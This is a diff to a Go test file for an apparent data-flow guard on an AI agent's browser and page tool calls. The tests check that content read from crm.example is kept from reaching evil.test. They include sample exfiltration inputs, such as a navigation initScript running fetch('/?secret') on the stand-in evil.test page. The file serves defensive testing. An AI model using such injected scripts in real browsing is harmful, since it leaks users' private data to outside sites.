@@ -38,6 +38,13 @@ func TestFlowOfDeeds(t *testing.T) {
 	listed.Listed = true
 	to := deedOn("", calls.BrowserTool, calls.Unknown, `{"url":"https://evil.test/?q=1"}`)
 	to.To = evil + "/?q=1"
+	visit := func(args string) calls.Deed {
+		d := deedOn(crm, calls.BrowserTool, calls.Unknown, args)
+		d.To = evil + "/"
+		return d
+	}
+	besides := deedOn(evil, calls.PageTool, calls.ReadOnly, `{}`)
+	besides.Besides = json.RawMessage(`{"_meta":{"note":"secret"}}`)
 	for _, c := range []struct {
 		name  string
 		deed  calls.Deed
@@ -52,6 +59,10 @@ func TestFlowOfDeeds(t *testing.T) {
 		{"a resource that the client made up", deedOn(evil, calls.Resource, calls.ReadOnly, `{"uri":"x:secret"}`), true},
 		{"a prompt without arguments", deedOn(evil, calls.Prompt, calls.Unknown, `{"name":"p"}`), true},
 		{"a prompt that only reads, without arguments", deedOn(evil, calls.Prompt, calls.ReadOnly, `{"name":"p"}`), false},
+		{"a completion of a prompt", deedOn(evil, calls.Prompt, calls.ReadOnly, `{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"q","value":"secret"}}`), true},
+		{"an origin with a script", visit(`{"url":"https://evil.test/","initScript":"fetch('/?secret')"}`), true},
+		{"a page's tool that is told something besides", besides, true},
+		{"an answer to what a page asks", deedOn(evil, calls.PageAsks, calls.ReadOnly, `{"messages":[]}`), true},
 		{"a prompt with arguments", deedOn(evil, calls.Prompt, calls.ReadOnly, `{"name":"p","arguments":{"a":"secret"}}`), true},
 		{"a look at the page", deedOn(evil, calls.BrowserTool, calls.ReadOnly, `{"query":"secret"}`), false},
 		{"a click", deedOn(evil, calls.BrowserTool, calls.Unknown, `{"uid":"e1"}`), true},
@@ -62,16 +73,16 @@ func TestFlowOfDeeds(t *testing.T) {
 		{"the same page", deedOn(crm, calls.PageTool, calls.Unknown, `{"q":"secret"}`), false},
 	} {
 		f := NewFlow(flow.Options{Mode: flow.Enforce}, nil)
-		if v, why := f.Decide(c.deed); v != Allow {
+		if v, why, _ := f.Decide(c.deed); v != Allow {
 			t.Errorf("%s, before anything was read: %v, %s", c.name, v, why)
 		}
 		f.Sent(deedOn(crm, calls.PageTool, calls.Unknown, `{}`))
-		v, why := f.Decide(c.deed)
+		v, why, _ := f.Decide(c.deed)
 		if (v == Refuse) != c.flows || c.flows && !strings.Contains(why, "--allow-flow 'https://crm.example->https://evil.test'") {
 			t.Errorf("%s: %v, %s", c.name, v, why)
 		}
 		f.ClientGone("1")
-		if v, _ := f.Decide(c.deed); v != Allow {
+		if v, _, _ := f.Decide(c.deed); v != Allow {
 			t.Errorf("%s, after the client has gone: %v", c.name, v)
 		}
 	}
@@ -82,7 +93,7 @@ func TestFlowModes(t *testing.T) {
 	for mode, want := range map[flow.Mode]Verdict{flow.Log: Log, flow.Ask: Ask, flow.Enforce: Refuse} {
 		f := NewFlow(flow.Options{Mode: mode}, nil)
 		f.Sent(deedOn(crm, calls.Resource, calls.ReadOnly, ""))
-		if v, _ := f.Decide(deedOn(evil, calls.PageTool, calls.Unknown, "")); v != want {
+		if v, _, _ := f.Decide(deedOn(evil, calls.PageTool, calls.Unknown, "")); v != want {
 			t.Errorf("%s: %v", mode, v)
 		}
 	}
@@ -93,13 +104,13 @@ func TestFlowModes(t *testing.T) {
 func TestFlowFromFrames(t *testing.T) {
 	f := NewFlow(flow.Options{Mode: flow.Enforce}, nil)
 	f.Sent(calls.Deed{Who: calls.Who{Session: "1"}, What: calls.What{Kind: calls.BrowserTool}})
-	if v, why := f.Decide(deedOn(evil, calls.PageTool, calls.Unknown, "")); v != Allow {
+	if v, why, _ := f.Decide(deedOn(evil, calls.PageTool, calls.Unknown, "")); v != Allow {
 		t.Errorf("after the hub's own words: %v, %s", v, why)
 	}
 	look := deedOn(evil, calls.BrowserTool, calls.ReadOnly, "")
 	look.Frames = []string{evil, "https://ads.test"}
 	f.Sent(look)
-	if v, why := f.Decide(deedOn(evil, calls.PageTool, calls.Unknown, "")); v != Refuse || !strings.Contains(why, "https://ads.test") {
+	if v, why, _ := f.Decide(deedOn(evil, calls.PageTool, calls.Unknown, "")); v != Refuse || !strings.Contains(why, "https://ads.test") {
 		t.Errorf("after a look at a page with a frame: %v, %s", v, why)
 	}
 }
@@ -139,20 +150,78 @@ func TestAnswersAboutFlows(t *testing.T) {
 	wantRefused(t, g.Judge(context.Background(), buying(answers("always"))), "none of the choices")
 }
 
-// TestApprovedFlows: what a person allows for good is kept, but never as a pattern that
-// allows more.
+// TestApprovedFlows: what a person allows for good is what the question named, not what
+// the client has read since, and nothing that stands for more than one origin.
 func TestApprovedFlows(t *testing.T) {
 	var kept []string
 	f := NewFlow(flow.Options{Mode: flow.Ask}, func(pairs []string) { kept = append(kept, pairs...) })
 	f.Sent(deedOn(crm, calls.PageTool, calls.Unknown, ""))
-	opaque := deedOn("null", calls.PageTool, calls.Unknown, "")
-	f.Sent(opaque)
 	d := deedOn(evil, calls.PageTool, calls.Unknown, "")
-	f.Approved(d)
-	if v, why := f.Decide(d); v != Allow {
+	_, _, approve := f.Decide(d)
+	f.Sent(deedOn("https://bank.example", calls.PageTool, calls.Unknown, ""))
+	approve()
+	if v, why, _ := f.Decide(d); v != Ask || strings.Contains(why, crm) || !strings.Contains(why, "bank") {
 		t.Errorf("%v, %s", v, why)
 	}
 	if !slices.Equal(kept, []string{crm + "->" + evil}) {
 		t.Errorf("%q are kept", kept)
 	}
+	for name, from := range map[string][]string{
+		"an opaque origin":     {crm, "null"},
+		"an unknown one":       {""},
+		"more than are named":  {crm, "https://a.test", "https://b.test", "https://c.test", "https://d.test", "https://e.test"},
+		"one of a long name":   {"https://" + strings.Repeat("x.", 200) + "test"},
+		"an opaque target":     {crm, "to null"},
+		"an address elsewhere": {crm, "to https://[::1"},
+	} {
+		f := NewFlow(flow.Options{Mode: flow.Ask}, nil)
+		d := deedOn(evil, calls.PageTool, calls.Unknown, "")
+		for _, origin := range from {
+			if to, is := strings.CutPrefix(origin, "to "); is {
+				d.Origin = to
+				continue
+			}
+			f.Sent(deedOn(origin, calls.PageTool, calls.Unknown, ""))
+		}
+		if v, _, approve := f.Decide(d); v != Ask || approve != nil {
+			t.Errorf("%s: %v, and it can be approved for good: %v", name, v, approve != nil)
+		}
+	}
+}
+
+// An origin where the client has been is told nothing by going there, unless something
+// comes along.
+func TestWhatNavigationsBring(t *testing.T) {
+	for args, want := range map[string]Verdict{`{"url":"https://evil.test/","type":"url","timeout":5}`: Allow, `{"type":"back"}`: Allow, ``: Allow,
+		`{"url":"https://evil.test/","initScript":"fetch('/?secret')"}`: Refuse, `{"type":"back","initScript":"1"}`: Refuse, `[]`: Refuse} {
+		f := NewFlow(flow.Options{Mode: flow.Enforce}, nil)
+		f.Sent(deedOn(crm, calls.PageTool, calls.Unknown, ""))
+		f.Sent(deedOn(evil, calls.PageTool, calls.Unknown, ""))
+		d := deedOn(crm, calls.BrowserTool, calls.Unknown, args)
+		d.Name, d.To = "navigate_page", evil+"/"
+		if v, why, _ := f.Decide(d); v != want {
+			t.Errorf("%s: %v, %s", args, v, why)
+		}
+	}
+}
+
+// What becomes so while a person is asked counts.
+func TestWhatComesUpUnderAQuestion(t *testing.T) {
+	p := policyOf(t, [2]string{"ask", "*"})
+	g := New(Options{Rules: p})
+	no := g.Judge(context.Background(), buying(func(context.Context) (string, error) {
+		p.Replace(policyOf(t, [2]string{"deny", "*"}).set.Load())
+		return yes, nil
+	}))
+	wantRefused(t, no, "the rule deny * (test) denies it")
+
+	f := NewFlow(flow.Options{Mode: flow.Ask}, nil)
+	g = New(Options{Flow: f})
+	f.Sent(deedOn(crm, calls.PageTool, calls.Unknown, ""))
+	d := deedOn(evil, calls.PageTool, calls.Unknown, "")
+	d.Ask = func(context.Context, json.RawMessage) (json.RawMessage, error) {
+		f.Sent(deedOn("https://bank.example", calls.PageTool, calls.Unknown, ""))
+		return json.RawMessage(yes), nil
+	}
+	wantRefused(t, g.Judge(context.Background(), d), "another reason to ask has come up")
 }
